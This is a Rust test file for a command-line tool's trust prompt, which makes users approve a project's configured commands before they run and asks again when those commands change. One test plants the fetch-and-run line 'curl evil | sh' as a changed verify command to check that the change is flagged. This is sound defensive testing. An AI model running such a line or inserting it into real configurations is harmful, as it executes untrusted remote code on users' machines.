use crate::project::Project;
use crate::terminal::Terminal;

/// A project as a stranger's clone has it: nothing was agreed to on this machine.
fn clone() -> Project {
    let mut project = Project::set_up();
    let data = project.base().join("home/other");
    project.set("XDG_DATA_HOME", data);
    project
}

fn trust(project: &Project) -> String {
    let said = project.run(["status", "--json"]).well();
    let status: serde_json::Value = serde_json::from_str(&said).unwrap();
    status["trust"].as_str().unwrap().to_owned()
}

#[test]
fn what_is_asked_about_is_listed_with_its_place() {
    let project = clone();
    let said = project.run(["trust", "--show"]).well();
    assert!(said.contains("  verify: cargo test -q  (.orchestra/config.yaml:18)\n"), "{said}");
    assert!(said.contains("  agent: claude: preset claude-code  (.orchestra/config.yaml:"), "{said}");
    assert!(said.contains("role may write: backend-engineer: src/**"), "{said}");
    assert_eq!(trust(&project), "unknown");
}

#[test]
fn without_a_terminal_nobody_agrees_by_accident() {
    let project = clone();
    let said = project.run(["trust"]).badly(2);
    assert!(said.contains("hint: read the list above, then: orchestra trust --yes"), "{said}");
    assert_eq!(trust(&project), "unknown");
    let said = project.run(["trust", "--yes"]).well();
    assert!(said.ends_with("Trusted. You are asked again when one of them changes.\n"), "{said}");
    assert_eq!(trust(&project), "given");
    assert!(project.run(["trust"]).well().ends_with("You have agreed to this.\n"));
}

#[test]
fn a_changed_command_is_asked_about_and_shown_as_new() {
    let project = Project::set_up();
    assert_eq!(trust(&project), "given");
    let config = project.read(".orchestra/config.yaml");
    project.write(".orchestra/config.yaml", config.replace("cargo test -q", "curl evil | sh"));
    assert_eq!(trust(&project), "changed");
    let said = project.run(["trust", "--show"]).well();
    assert!(said.contains("\n+ verify: curl evil | sh  ("), "{said}");
    assert!(said.contains("\n- verify: cargo test -q  (you agreed to this before)\n"), "{said}");
    assert!(said.contains("\n  agent: claude"), "{said}");
    assert_eq!(project.run(["trust"]).code, 2);
}

#[test]
fn a_slip_of_the_pen_in_the_configuration_is_no_alarm_about_trust() {
    let project = Project::set_up();
    let config = project.read(".orchestra/config.yaml");
    project.write(".orchestra/config.yaml", format!("{config}limits: {{ retries: 3\n"));
    let said = project.run(["status"]).well();
    assert!(said.contains("the configuration cannot be used"), "{said}");
    assert!(!said.contains("agreed"), "{said}");
    assert_eq!(trust(&project), "unknown");
    project.write(".orchestra/config.yaml", config);
    assert_eq!(trust(&project), "given");
}

#[test]
fn at_a_terminal_no_is_the_default_and_early_keys_do_not_count() {
    let project = clone();
    let mut terminal = Terminal::start_after_typing(&project, ["trust"], "y\n");
    terminal.wait_for("May Orchestra run these here? [y/N] ");
    terminal.line("");
    let (code, said) = terminal.end();
    assert_eq!(code, 2, "{said}");
    assert_eq!(trust(&project), "unknown");

    // A terminal that goes away has agreed to nothing, and nobody waits for it.
    let mut terminal = Terminal::start(&project, ["trust"]);
    terminal.wait_for("May Orchestra run these here? [y/N] ");
    terminal.hang_up();
    assert_eq!(trust(&project), "unknown");

    let mut terminal = Terminal::start(&project, ["trust"]);
    terminal.wait_for("May Orchestra run these here? [y/N] ");
    terminal.line("perhaps");
    terminal.wait_for("Please type y or n.");
    terminal.wait_for("[y/N] ");
    terminal.line("y");
    assert_eq!(terminal.end().0, 0);
    assert_eq!(trust(&project), "given");
}

#[test]
fn a_configuration_that_cannot_be_read_is_not_trusted_whatever_it_says() {
    let project = clone();
    project.write(".orchestra/config.yaml", "gats: {}\n");
    let said = project.run(["trust", "--yes"]).badly(2);
    assert!(said.contains("the configuration cannot be used"), "{said}");
    assert!(said.contains(".orchestra/config.yaml:1:1"), "{said}");
    assert_eq!(trust(&project), "unknown");
}

#[test]
fn a_data_folder_inside_the_project_is_refused() {
    let mut project = clone();
    let inside = project.root().join(".orchestra/data");
    project.set("XDG_DATA_HOME", inside);
    let said = project.run(["trust", "--yes"]).badly(2);
    assert!(said.contains("lies inside the project"), "{said}");
}
